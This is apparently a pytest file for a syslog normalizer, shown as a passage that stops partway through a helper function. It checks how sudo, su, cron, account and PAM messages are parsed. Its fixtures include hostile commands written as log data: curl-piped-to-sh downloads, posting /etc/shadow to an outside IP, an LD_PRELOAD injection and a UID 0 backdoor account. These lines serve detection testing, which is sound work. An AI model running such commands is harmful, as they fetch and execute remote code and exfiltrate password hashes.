"""sudo, su, account management, cron, logind and generic PAM messages.

Every pattern of these six modules is hit by at least one realistic sample below whose fields
are asserted; near-misses must not take a wrong action; and every regex must mean the same to
Python `re` and to RE2 (the engine DuckDB runs in the bulk path), checked on every sample with
DuckDB itself and, where installed, with the google-re2 binding.
"""

from __future__ import annotations

import re
from types import ModuleType
from typing import Any

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hostwarden.core.chunks import Chunk
from hostwarden.core.schema import FIELD_BY_NAME, FIELD_NAMES, to_arrow
from hostwarden.normalize import accounts, cron, logind, pam, su, sudo
from hostwarden.normalize.base import ParseContext
from hostwarden.normalize.bulk import BulkSyslog
from hostwarden.normalize.patterns import Pattern, group_to_field, sql_string
from hostwarden.normalize.syslog import SyslogParser, parse_message

MODULES: tuple[ModuleType, ...] = (sudo, su, accounts, cron, logind, pam)

# (program, message, expected fields). `None` as a value: the field must be absent.
CASES: list[tuple[str, str, dict[str, Any]]] = [
    # --- sudo
    ("sudo", "    root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -s http://x/x.sh | sh",
     {"event.action": "sudo_command", "user.name": "root", "process.tty": "pts/1", "process.working_directory": "/root",
      "user.effective.name": "root", "process.command_line": "/usr/bin/curl -s http://x/x.sh | sh",
      "event.outcome": "success", "event.dataset": "sudo"}),
    ("sudo", "  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
     {"event.action": "sudo_command", "user.name": "alice", "process.command_line": "/usr/bin/id"}),
    ("sudo", "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; ENV=A=1 LD_PRELOAD=/tmp/x.so ; COMMAND=/usr/bin/id",
     {"event.action": "sudo_command", "sudo.env": "A=1 LD_PRELOAD=/tmp/x.so", "process.command_line": "/usr/bin/id"}),
    ("sudo", "alice : HOST=web1 ; TTY=pts/3 ; CHROOT=/srv ; PWD=/home/a ; b ; USER=postgres ; GROUP=dba ; "
     "TSID=00000A ; COMMAND=/usr/bin/psql -c 'select 1'",
     {"event.action": "sudo_command", "sudo.host": "web1", "sudo.chroot": "/srv", "process.working_directory": "/home/a ; b",
      "user.effective.name": "postgres", "sudo.group": "dba", "sudo.tsid": "00000A",
      "process.command_line": "/usr/bin/psql -c 'select 1'"}),
    ("sudo", "alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
     {"event.action": "sudo_auth_failure", "event.outcome": "failure", "user.name": "alice", "sudo.attempts": "3",
      "process.command_line": "/bin/bash", "error.message": "3 incorrect password attempts"}),
    ("sudo", "    test : 1 incorrect password attempt ; TTY=pts/4 ; PWD=/home/test ; USER=root ;",
     {"event.action": "sudo_auth_failure", "user.name": "test", "user.effective.name": "root", "process.command_line": None}),
    ("sudo", "mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh",
     {"event.action": "sudo_not_in_sudoers", "event.outcome": "failure", "user.name": "mallory",
      "process.command_line": "/bin/sh", "process.working_directory": "/tmp"}),
    ("sudo", "bob : command not allowed ; TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
     {"event.action": "sudo_command_refused", "error.message": "command not allowed", "event.outcome": "failure"}),
    ("sudo", "bob : user NOT authorized on host ; TTY=pts/2 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
     {"event.action": "sudo_command_refused", "error.message": "user NOT authorized on host"}),
    ("sudo", "deploy : a password is required ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl restart app",
     {"event.action": "sudo_command_refused", "error.message": "a password is required", "process.tty": None,
      "process.command_line": "/usr/bin/systemctl restart app"}),
    ("sudo", "alice : unknown user ghost ; TTY=pts/0 ; PWD=/ ; USER=ghost ; COMMAND=/bin/ls",
     {"event.action": "sudo_command_refused", "error.message": "unknown user ghost", "user.effective.name": "ghost"}),
    ("sudo", "alice : no tty present and no askpass program specified ; TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
     {"event.action": "sudo_command_refused", "error.message": "no tty present and no askpass program specified"}),
    ("sudo", "alice : (command continued) --data @/etc/shadow http://203.0.113.5/",
     {"event.action": "sudo_command_continued", "process.command_line": "--data @/etc/shadow http://203.0.113.5/"}),
    ("sudo", "pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
     {"event.action": "pam_auth_failure", "event.dataset": "sudo", "user.name": "alice", "source.ip": None, "user.id": None}),
    ("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
     {"event.action": "pam_session_opened", "user.name": "root", "user.id": "0", "pam.by": "alice", "event.dataset": "sudo"}),
    ("sudo", "pam_unix(sudo:auth): auth could not identify password for [alice]",
     {"event.action": "pam_password_missing", "user.name": "alice", "event.outcome": "failure"}),
    ("sudo", "pam_unix(sudo:auth): conversation failed", {"event.action": "pam_conversation_failed", "pam.service": "sudo"}),
    # --- su / runuser
    ("su", "Successful su for root by alice", {"event.action": "su_success", "user.name": "alice", "user.effective.name": "root",
                                              "event.outcome": "success", "event.dataset": "su"}),
    ("su", "FAILED su for root by alice", {"event.action": "su_failure", "event.outcome": "failure", "user.name": "alice"}),
    ("su", "+ pts/0 alice:root", {"event.action": "su_success", "process.tty": "pts/0", "user.effective.name": "root",
                                  "user.name": "alice"}),
    ("su", "- pts/0 alice:root", {"event.action": "su_failure", "user.name": "alice", "user.effective.name": "root"}),
    ("su", "FAILED SU (to root) alice on pts/0", {"event.action": "su_failure", "user.name": "alice", "process.tty": "pts/0",
                                                "user.effective.name": "root"}),
    ("runuser", "FAILED RUNUSER (to postgres) root on none", {"event.action": "su_failure", "user.effective.name": "postgres"}),
    ("su", "(to root) alice on pts/0", {"event.action": "su_success", "user.name": "alice", "user.effective.name": "root"}),
    ("su", "pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 tty=pts/0 ruser=alice rhost=  user=root",
     {"event.action": "pam_auth_failure", "user.name": "root", "pam.ruser": "alice", "event.dataset": "su"}),
    ("su(pam_unix)", "session opened for user cyrus by (uid=0)", {"event.action": "pam_session_opened", "user.name": "cyrus",
                                                               "event.dataset": "su"}),
    ("su(pam_unix)", "session closed for user cyrus", {"event.action": "pam_session_closed", "user.name": "cyrus"}),
    # --- accounts (shadow-utils wording)
    ("useradd", "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
     {"event.action": "user_created", "user.target.name": "sysupdate", "user.id": "0", "event.dataset": "accounts",
      "accounts.gid": "0", "accounts.home": "/root", "accounts.shell": "/bin/bash", "process.tty": "/dev/pts/1"}),
    ("useradd", "new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash",
     {"event.action": "user_created", "user.id": "1001", "process.tty": None}),
    ("useradd", "failed adding user 'bob', exit code: 9", {"event.action": "user_create_failed", "accounts.exit_code": "9",
                                                           "event.outcome": "failure", "user.target.name": "bob"}),
    ("groupadd", "new group: name=bob, GID=1001", {"event.action": "group_created", "group.name": "bob", "accounts.gid": "1001"}),
    ("groupadd", "group added to /etc/gshadow: name=bob", {"event.action": "group_file_updated", "file.path": "/etc/gshadow",
                                                           "group.name": "bob"}),
    ("useradd", "add 'bob' to group 'sudo'", {"event.action": "user_added_to_group", "group.name": "sudo",
                                              "user.target.name": "bob", "accounts.database": "group"}),
    ("useradd", "add 'bob' to shadow group 'sudo'", {"event.action": "user_added_to_group", "accounts.database": "gshadow"}),
    ("userdel", "delete user 'bob'", {"event.action": "user_deleted", "user.target.name": "bob"}),
    ("userdel", "delete user 'bob'#012", {"event.action": "user_deleted", "user.target.name": "bob"}),
    ("userdel", "delete 'bob' from group 'docker'", {"event.action": "user_removed_from_group", "group.name": "docker"}),
    ("userdel", "delete 'bob' from shadow group 'docker'", {"event.action": "user_removed_from_group",
                                                            "accounts.database": "gshadow"}),
    ("userdel", "removed group 'bob' owned by 'bob'", {"event.action": "group_deleted", "group.name": "bob",
                                                       "user.target.name": "bob"}),
    ("userdel", "removed shadow group 'bob' owned by 'bob'", {"event.action": "group_deleted", "accounts.database": "gshadow"}),
    ("userdel", "/var/mail/bob not owned by bob, not removed", {"event.action": "mail_spool_kept", "file.path": "/var/mail/bob"}),
    ("groupdel", "group 'devs' removed", {"event.action": "group_deleted", "group.name": "devs"}),
    ("groupdel", "group 'devs' removed from /etc/group", {"event.action": "group_file_updated", "file.path": "/etc/group"}),
    ("groupmod", "group changed in /etc/group (group bob/1001, new name: bobs)",
     {"event.action": "group_changed", "group.name": "bob", "accounts.gid": "1001", "accounts.change": "new name: bobs"}),
    ("usermod", "change user 'bob' UID from '1001' to '0'",
     {"event.action": "user_changed", "user.id": "0", "accounts.old": "1001", "accounts.change": "UID", "user.target.name": "bob"}),
    ("usermod", "change user 'bob' GID from '1001' to '27'", {"event.action": "user_changed", "accounts.gid": "27",
                                                             "accounts.change": "GID", "user.id": None}),
    ("usermod", "change user 'bob' home from '/home/bob' to '/srv/bob'", {"event.action": "user_changed",
                                                                         "accounts.new": "/srv/bob", "accounts.change": "home"}),
    ("usermod", "change user 'bob' shell from '/bin/sh' to '/bin/bash'", {"event.action": "user_changed",
                                                                         "accounts.change": "shell"}),
    ("usermod", "change user 'bob' expiration from 'never' to '2027-01-01'", {"event.action": "user_changed",
                                                                             "accounts.change": "expiration"}),
    ("usermod", "change user 'bob' inactive from '-1' to '30'", {"event.action": "user_changed", "accounts.new": "30"}),
    ("usermod", "change user name 'bob' to 'robert'", {"event.action": "user_changed", "user.target.name": "robert",
                                                       "accounts.old": "bob", "accounts.change": "name"}),
    ("usermod", "change user 'bob' password", {"event.action": "password_changed", "user.target.name": "bob"}),
    ("usermod", "lock user 'bob' password", {"event.action": "password_locked", "user.target.name": "bob"}),
    ("usermod", "unlock user 'bob' password", {"event.action": "password_unlocked"}),
    ("usermod", "change 'bob' to 'robert' in group 'sudo'", {"event.action": "group_member_renamed", "group.name": "sudo",
                                                            "user.target.name": "robert"}),
    ("usermod", "change admin 'bob' to 'robert' in shadow group 'sudo'", {"event.action": "group_admin_renamed"}),
    ("passwd", "password for 'bob' changed by 'root'", {"event.action": "password_changed", "user.target.name": "bob",
                                                        "user.name": "root"}),
    ("passwd", "incorrect password for bob", {"event.action": "password_change_failed", "event.outcome": "failure"}),
    ("passwd", "password locked for 'bob'", {"event.action": "password_change_refused", "event.outcome": "failure"}),
    ("chage", "changed password expiry for bob", {"event.action": "password_expiry_changed", "user.target.name": "bob"}),
    ("chsh", "changed user 'bob' shell to '/bin/zsh'", {"event.action": "user_changed", "accounts.new": "/bin/zsh",
                                                       "accounts.change": "shell"}),
    ("chfn", "changed user 'bob' information", {"event.action": "user_changed", "accounts.change": "information"}),
    ("gpasswd", "user bob added by root to group sudo in /etc/group",
     {"event.action": "user_added_to_group", "user.name": "root", "user.target.name": "bob", "group.name": "sudo",
      "file.path": "/etc/group"}),
    ("gpasswd", "user bob removed by root from group sudo", {"event.action": "user_removed_from_group", "file.path": None}),
    ("gpasswd", "members of group sudo set by root to alice,bob", {"event.action": "group_changed", "accounts.new": "alice,bob",
                                                                   "accounts.change": "members"}),
    ("gpasswd", "password of group sudo changed by root in /etc/gshadow", {"event.action": "group_changed",
                                                                           "file.path": "/etc/gshadow"}),
    ("gpasswd", "access to group sudo restricted by root", {"event.action": "group_changed", "accounts.change": "access"}),
    ("gpasswd", "root failed to add user bob to group sudo in /etc/group",
     {"event.action": "group_change_failed", "user.target.name": "bob", "event.outcome": "failure"}),
    ("gpasswd", "root failed to set the members of group sudo to alice in /etc/gshadow",
     {"event.action": "group_change_failed", "accounts.change": "set the members", "accounts.new": "alice"}),
    ("passwd", "pam_unix(passwd:chauthtok): password changed for bob",
     {"event.action": "password_changed", "user.target.name": "bob", "event.dataset": "accounts"}),
    ("chpasswd", "pam_unix(chpasswd:chauthtok): password changed for root", {"event.action": "password_changed"}),
    # --- cron
    ("CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
     {"event.action": "cron_command", "user.name": "root", "process.command_line": "cd / && run-parts --report /etc/cron.hourly",
      "event.dataset": "cron"}),
    ("CROND", "(www-data) CMD (curl -fsSL http://198.51.100.7/x | sh)", {"event.action": "cron_command", "user.name": "www-data"}),
    ("crond", "(root) CMDEND (run-parts /etc/cron.hourly)", {"event.action": "cron_command_end"}),
    ("crond", "(root) CMDOUT (hello)", {"event.action": "cron_command_output", "cron.output": "hello"}),
    ("cron", "(root) MAIL (mailed 1 byte of output; but got status 0x004b, #012)", {"event.action": "cron_mail",
                                                                                  "user.name": "root"}),
    ("crontab", "(alice) REPLACE (alice)", {"event.action": "crontab_replaced", "user.target.name": "alice",
                                            "user.name": "alice"}),
    ("crontab", "(root) REPLACE (www-data)", {"event.action": "crontab_replaced", "user.name": "root",
                                              "user.target.name": "www-data"}),
    ("crontab", "(alice) BEGIN EDIT (alice)", {"event.action": "crontab_edit", "cron.edit": "BEGIN"}),
    ("crontab", "(alice) END EDIT (alice)", {"event.action": "crontab_edit", "cron.edit": "END"}),
    ("crontab", "(alice) LIST (alice)", {"event.action": "crontab_listed"}),
    ("crontab", "(alice) DELETE (alice)", {"event.action": "crontab_deleted"}),
    ("crontab", "(mallory) AUTH (crontab command not allowed)", {"event.action": "crontab_denied", "event.outcome": "failure"}),
    ("cron", "(*system*) RELOAD (/etc/cron.d/)", {"event.action": "cron_reload", "file.path": "/etc/cron.d/", "user.name": None}),
    ("cron", "(*system*popularity-contest) RELOAD (/etc/cron.d/popularity-contest)", {"event.action": "cron_reload",
                                                                                     "user.name": None}),
    ("cron", "(alice) RELOAD (crontabs/alice)", {"event.action": "cron_reload", "user.name": "alice"}),
    ("cron", "(*system*) INSECURE MODE (mode 0600 expected) (/etc/crontab)",
     {"event.action": "cron_table_rejected", "cron.event": "INSECURE MODE", "file.path": "/etc/crontab", "user.name": None}),
    ("cron", "(root) WRONG INODE INFO (crontabs/root)", {"event.action": "cron_table_rejected", "cron.event": "WRONG INODE INFO"}),
    ("cron", "(CRON) info (No MTA installed, discarding output)", {"event.action": "cron_info", "user.name": None,
                                                                  "error.message": "No MTA installed, discarding output"}),
    ("cron", "(CRON) INFO (pidfile fd = 3)", {"event.action": "cron_info"}),
    ("cron", "(CRON) STARTUP (fork ok)", {"event.action": "cron_started"}),
    ("cron", "(CRON) DEATH (can't lock /var/run/crond.pid, otherpid may be 2: Resource temporarily unavailable)",
     {"event.action": "cron_died", "event.outcome": "failure"}),
    ("cron", "(CRON) error (grandchild #4112 failed with exit status 1)", {"event.action": "cron_error"}),
    ("cron", "(CRON) bad minute (/etc/crontab)", {"event.action": "cron_info", "cron.event": "bad minute"}),
    ("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
     {"event.action": "pam_session_opened", "user.name": "root", "user.id": "0", "event.dataset": "cron"}),
    ("CRON", "pam_unix(cron:session): session closed for user root", {"event.action": "pam_session_closed"}),
    ("anacron", "Job `cron.daily' started", {"event.action": "cron_job_started", "cron.job": "cron.daily"}),
    ("anacron", "Job 'cron.weekly' started", {"event.action": "cron_job_started", "cron.job": "cron.weekly"}),
    ("anacron", "Job `cron.daily' terminated", {"event.action": "cron_job_finished", "event.outcome": "success"}),
    ("anacron", "Job `cron.daily' terminated (mailing output)", {"event.action": "cron_job_finished",
                                                                 "event.outcome": "success"}),
    ("anacron", "Job `cron.daily' terminated (exit status: 1) (mailing output)",
     {"event.action": "cron_job_finished", "event.outcome": "failure", "cron.exit_code": "1"}),
    ("anacron", "Job `cron.daily' locked by another anacron - skipping", {"event.action": "cron_job_skipped"}),
    ("anacron", "Will run job `cron.daily' in 5 min.", {"event.action": "cron_job_scheduled", "cron.delay": "5"}),
    ("anacron", "Anacron 2.3 started on 2026-11-28", {"event.action": "cron_started", "cron.version": "2.3"}),
    ("anacron", "Normal exit (1 job run)", {"event.action": "cron_exited", "cron.jobs": "1"}),
    ("anacron", "Jobs will be executed sequentially", {"event.action": "cron_info"}),
    ("run-parts(/etc/cron.daily)", "starting logrotate", {"event.action": "cron_job_started", "cron.job": "logrotate"}),
    ("run-parts(/etc/cron.daily)", "finished logrotate", {"event.action": "cron_job_finished"}),
    # --- logind
    ("systemd-logind", "New session 12 of user alice.", {"event.action": "session_started", "user.name": "alice",
                                                         "logind.session": "12", "event.dataset": "logind"}),
    ("systemd-logind", "New session c1 of user john.doe.", {"event.action": "session_started", "user.name": "john.doe"}),
    ("systemd-logind", "New session '3' of user 'root' with class 'user' and type 'tty'.",
     {"event.action": "session_started", "user.name": "root", "logind.session": "3", "logind.type": "tty"}),
    ("systemd-logind", "Removed session 12.", {"event.action": "session_removed", "logind.session": "12"}),
    ("systemd-logind", "Session 12 logged out. Waiting for processes to exit.", {"event.action": "session_logged_out"}),
    ("systemd-logind", 'Session "7" of user "bob" is idle, stopping.', {"event.action": "session_idle_stopped",
                                                                       "user.name": "bob"}),
    ("systemd-logind", "Failed to start session scope session-4.scope: Transaction is destructive.",
     {"event.action": "session_start_failed", "event.outcome": "failure"}),
    ("systemd-logind", "New seat seat0.", {"event.action": "seat_added", "logind.seat": "seat0"}),
    ("systemd-logind", "Removed seat seat1.", {"event.action": "seat_removed"}),
    ("systemd-logind", "Watching system buttons on /dev/input/event0 (Power Button)",
     {"event.action": "buttons_watched", "file.path": "/dev/input/event0"}),
    ("systemd-logind", "Power key pressed short.", {"event.action": "key_pressed", "logind.key": "Power"}),
    ("systemd-logind", "Lid closed.", {"event.action": "lid_changed", "logind.lid": "closed"}),
    ("systemd-logind", "System is rebooting.", {"event.action": "system_shutdown"}),
    # --- generic PAM and login(1)
    ("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=1.2.3.4  user=root",
     {"event.action": "pam_auth_failure", "source.ip": "1.2.3.4", "user.name": "root", "event.dataset": "sshd",
      "pam.service": "sshd", "pam.type": "auth", "pam.module": "pam_unix", "user.id": None}),
    ("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=::ffff:10.0.0.9",
     {"event.action": "pam_auth_failure", "source.ip": "10.0.0.9", "user.name": None}),
    ("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=2001:db8::7  user=admin",
     {"event.action": "pam_auth_failure", "source.ip": "2001:db8::7", "user.name": "admin"}),
    ("sshd(pam_unix)", "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ",
     {"event.action": "pam_auth_failure", "source.ip": "218.188.2.4", "event.dataset": "sshd"}),
    ("sshd(pam_unix)", "authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=n219076184117.netvigator.com  user=root",
     {"event.action": "pam_auth_failure", "source.domain": "n219076184117.netvigator.com", "source.ip": None}),
    ("vsftpd", "pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=an8767 rhost=www.example.com",
     {"event.action": "pam_auth_failure", "source.domain": "www.example.com", "event.dataset": "pam"}),
    ("pure-ftpd", "(pam_unix) authentication failure; logname= uid=0 euid=0 tty=pure-ftpd ruser=sample-user rhost=192.168.1.1 ",
     {"event.action": "pam_auth_failure", "source.ip": "192.168.1.1", "pam.ruser": "sample-user", "pam.module": "pam_unix"}),
    ("vsftpd", "pam_unix: authentication failure; logname= uid=0 euid=0 tty=ftp ruser=an8767 rhost=www.google.com",
     {"event.action": "pam_auth_failure", "source.domain": "www.google.com"}),
    ("sshd", "pam_sss(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.40 user=carol",
     {"event.action": "pam_auth_failure", "pam.module": "pam_sss", "source.ip": "192.0.2.40", "user.name": "carol"}),
    ("dovecot", "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=dovecot ruser=bob rhost=203.0.113.8  user=bob",
     {"event.action": "pam_more_failures", "pam.count": "2", "source.ip": "203.0.113.8", "user.name": "bob"}),
    ("sshd", "PAM service(sshd) ignoring max retries; 6 > 3", {"event.action": "pam_max_retries", "pam.count": "6"}),
    ("sshd(pam_unix)", "check pass; user unknown", {"event.action": "pam_user_unknown", "event.outcome": "failure"}),
    ("sshd", "pam_unix(sshd:auth): bad username [ro ot]", {"event.action": "pam_user_unknown", "user.name": "ro ot"}),
    ("login(pam_unix)", "session opened for user root by LOGIN(uid=0)", {"event.action": "pam_session_opened", "pam.by": "LOGIN"}),
    ("systemd", "pam_unix(systemd-user:session): session opened for user alice(uid=1000) by alice(uid=0)",
     {"event.action": "pam_session_opened", "user.name": "alice", "user.id": "1000", "pam.service": "systemd-user"}),
    ("sshd", "pam_unix(sshd:session): session closed for user alice(uid=1000)", {"event.action": "pam_session_closed",
                                                                                 "user.id": "1000"}),
    ("sshd", "pam_unix(sshd:account): account bob has expired (account expired)",
     {"event.action": "pam_account_expired", "user.name": "bob", "error.message": "account expired"}),
    ("sshd", "pam_unix(sshd:account): expired password for user bob (password aged)",
     {"event.action": "pam_password_expired", "user.name": "bob"}),
    ("sshd", "pam_faillock(sshd:auth): Consecutive login failures for user root account temporarily locked",
     {"event.action": "pam_account_locked", "user.name": "root", "pam.module": "pam_faillock"}),
    ("sshd", "pam_tally2(sshd:auth): user root (0) tally 4, deny 3", {"event.action": "pam_tally_denied", "pam.count": "4"}),
    ("sshd", 'pam_succeed_if(sshd:auth): requirement "uid >= 1000" not met by user "root"',
     {"event.action": "pam_requirement_not_met", "user.name": "root", "pam.requirement": "uid >= 1000"}),
    ("su", 'pam_succeed_if(su:auth): requirement "user ingroup wheel" was met by user "alice"',
     {"event.action": "pam_requirement_met", "event.outcome": "success"}),
    ("sshd", "pam_sss(sshd:auth): received for user dave: 7 (Authentication failure)",
     {"event.action": "pam_auth_failure", "user.name": "dave", "pam.code": "7"}),
    ("login", "FAILED LOGIN 1 FROM tty1 FOR root, Authentication failure",
     {"event.action": "login_failed", "user.name": "root", "process.tty": "tty1", "source.ip": None}),
    ("login", "FAILED LOGIN 2 FROM 198.51.100.4 FOR admin, Authentication failure",
     {"event.action": "login_failed", "source.ip": "198.51.100.4", "user.name": "admin"}),
    ("login", "FAILED LOGIN (1) on '/dev/tty1' FOR 'UNKNOWN', User not known to the underlying authentication module",
     {"event.action": "login_failed", "process.tty": "/dev/tty1", "user.name": "UNKNOWN"}),
    ("login", "FAILED LOGIN SESSION FROM tty3 FOR root, Authentication failure", {"event.action": "login_failed"}),
    ("login", "TOO MANY LOGIN TRIES (5) FROM tty1 FOR root, Authentication failure",
     {"event.action": "login_max_tries", "pam.count": "5"}),
    ("login", "ROOT LOGIN ON tty2", {"event.action": "root_login", "user.name": "root", "process.tty": "tty2"}),
    ("login", "ROOT LOGIN ON pts/1 FROM jump.example.net", {"event.action": "root_login", "source.domain": "jump.example.net"}),
    ("login", "LOGIN ON tty1 BY alice", {"event.action": "login", "user.name": "alice"}),
]

# Messages that look like one of ours but must not take the named action (None: match nothing here).
NEAR_MISSES: list[tuple[str, str, str | None]] = [
    ("sudo", "pam_unix(sudo:session): session closed for user root", "sudo_command"),
    ("sudo", "alice : TTY=pts/0 ; PWD=/ ; USER=root", "sudo_command"),  # no COMMAND: not a command run
    ("sudo", "alice : user NOT in sudoers", "sudo_command"),
    ("useradd", "failed adding user 'bob', exit code: 9", "user_created"),
    ("useradd", "useradd defaults: GROUP=100, HOME=/home, SHELL=/bin/sh", "user_created"),
    ("CRON", "(CRON) STARTUP (fork ok)", "cron_command"),
    ("CRON", "(CRON) CMD (x)", "cron_command"),  # the daemon is not a user
    ("cron", "(*system*) RELOAD (/etc/crontab)", "cron_command"),
    ("su", "FAILED su for root by alice", "su_success"),
    ("su", "(to root) alice on", "su_success"),
    ("systemd-logind", "New session 12 of user alice", "session_started"),  # no final dot: truncated
    ("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=", "pam_session_opened"),
    ("kernel", "audit: type=1400 audit(0.0:1): apparmor=\"DENIED\" operation=\"open\"", None),
    ("login", "FAILED LOGIN FROM tty1 FOR root", "login_failed"),
    ("usermod", "change user 'bob' UID from '1001' to 'zero'", "user_changed"),
]


def _match(module: ModuleType, message: str) -> tuple[int, Pattern] | None:
    for i, p in enumerate(module.PATTERNS.patterns):
        if p.prefix and not message.startswith(p.prefix):
            continue
        if p.compiled().match(message):
            return i, p
    return None


def _module_for(program: str, message: str) -> ModuleType | None:
    """The module whose pattern the dispatcher uses: the program's own, else generic PAM."""
    key = re.sub(r"\(.*\)$", "", program).lower()
    for module in MODULES[:-1]:
        if key in module.PROGRAMS and _match(module, message):
            return module
    return pam if _match(pam, message) else None


@pytest.mark.parametrize("program, message, expected", CASES)
def test_program_messages(program: str, message: str, expected: dict[str, Any]) -> None:
    ev = parse_message(program, message)
    for key, value in expected.items():
        assert ev.get(key) == value, (key, ev)


def test_every_pattern_has_a_sample() -> None:
    hit: set[tuple[str, int]] = set()
    for program, message, _ in CASES:
        module = _module_for(program, message)
        assert module is not None, message
        found = _match(module, message)
        assert found is not None
        hit.add((module.__name__, found[0]))
    missing = [
        f"{m.__name__}[{i}] {p.action}"
        for m in MODULES
        for i, p in enumerate(m.PATTERNS.patterns)
        if (m.__name__, i) not in hit
    ]
    assert missing == []


@pytest.mark.parametrize("program, message, forbidden", NEAR_MISSES)
def test_near_misses_do_not_take_a_wrong_action(program: str, message: str, forbidden: str | None) -> None:
    ev = parse_message(program, message)
    if forbidden is None:
        assert "event.action" not in ev, ev
    else:
        assert ev.get("event.action") != forbidden, ev


def test_rhost_injection_takes_the_last_rhost_followed_only_by_user() -> None:
    # fail2ban's pam-generic samples: the user-controlled ruser/user values carry a fake rhost.
    ev = parse_message("daemon", "pam_unix(auth): authentication failure; logname= uid=0 euid=0 tty=xxx ruser=test "
                                 "rhost=192.0.2.151 rhost=192.0.2.1")
    assert (ev["source.ip"], ev["pam.ruser"]) == ("192.0.2.1", "test rhost=192.0.2.151")
    ev = parse_message("daemon", "pam_unix(auth): authentication failure; logname= uid=0 euid=0 tty=xxx ruser= "
                                 "rhost=192.0.2.2 user=test rhost=192.0.2.152")
    assert (ev["source.ip"], ev["user.name"]) == ("192.0.2.2", "test rhost=192.0.2.152")
    ev = parse_message("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                               "rhost=1.2.3.4 rhost=5.6.7.8")
    assert ev["source.ip"] == "5.6.7.8"  # an address followed by more text is not the rhost


def test_pam_uid_of_the_caller_is_not_taken_as_the_users_uid() -> None:
    ev = parse_message("sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=1.2.3.4  user=bob")
    assert "user.id" not in ev  # uid=0 is sshd's own uid: reporting it as bob's would fake a UID-0 login


def test_programs_are_lowercase_and_owned_once() -> None:
    seen: dict[str, str] = {}
    for module in MODULES:
        for program in module.PROGRAMS:
            assert program == program.lower()
            assert program not in seen, (program, seen.get(program), module.__name__)
            seen[program] = module.__name__
    assert pam.PROGRAMS == ()  # generic: it must not claim programs from the families


# --- the regexes themselves ---------------------------------------------------------------

ALL_PATTERNS = [(m.__name__.rsplit(".", 1)[1], p) for m in MODULES for p in m.PATTERNS.patterns]
EXTRA_NAMESPACES = ("pam.", "sudo.", "accounts.", "cron.", "logind.")
# Syntax Python accepts and RE2 refuses or reads differently: lookaround, backreferences,
# possessive/atomic groups, \Z, and classes whose Unicode meaning differs (\d \s \w in str regexes).
FORBIDDEN = re.compile(r"\(\?[=!<>]|\(\?P=|\\[1-9]|\\Z|[*+?}]\+|\(\?>|\\[dDsSwWbB]")


@pytest.mark.parametrize("module, p", ALL_PATTERNS, ids=[f"{m}-{p.action}-{i}" for i, (m, p) in enumerate(ALL_PATTERNS)])
def test_regex_is_anchored_portable_and_names_known_fields(module: str, p: Pattern) -> None:
    compiled = re.compile(p.regex)
    assert p.regex.startswith("^")
    assert compiled.groups == len(compiled.groupindex), "unnamed capturing group: use (?:...)"
    assert FORBIDDEN.search(p.regex.replace("\\\\", "")) is None
    for name in compiled.groupindex:
        field = group_to_field(name)
        assert field in FIELD_BY_NAME or field.startswith(EXTRA_NAMESPACES), field
    for key in p.constants:
        assert key == "user.name" or key not in FIELD_BY_NAME  # what the bulk path supports
    assert _literal_head(p.regex).startswith(p.prefix), "the prefix would hide matches"


def _literal_head(regex: str) -> str:
    """The literal text every match of `regex` starts with (after `^`, up to the first operator)."""
    head, i = "", 1
    while i < len(regex):
        ch = regex[i]
        if ch == "\\" and i + 1 < len(regex) and not regex[i + 1].isalnum():
            ch, i = regex[i + 1], i + 1
        elif ch in ".^$*+?{}[]|()":
            break
        nxt = regex[i + 1] if i + 1 < len(regex) else ""
        if nxt in ("*", "?", "{"):  # optional character: not part of every match
            break
        head += ch
        i += 1
    return head


# Every sample message, near-miss, and a few hostile variants: Unicode digits and spaces, which
# Python's \d/\s would accept and RE2's would not, and long repetitions.
AGREEMENT_INPUTS = sorted(
    {m for _, m, _ in CASES}
    | {m for _, m, _ in NEAR_MISSES}
    | {
        "alice : TTY=pts/\u0663 ; PWD=/ ; USER=root ; COMMAND=/bin/id",
        "new user: name=x, UID=\u0660, GID=0, home=/, shell=/bin/sh",
        "New session\u00a012 of user alice.",
        "authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=1.2.3.4\u2003user=root",
        "(root) CMD (" + "(" * 200 + ")",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser=" + "a rhost=" * 50 + "b",
        "",
    }
)


def _python_groups(p: Pattern, text: str) -> dict[str, str] | None:
    m = p.compiled().match(text)
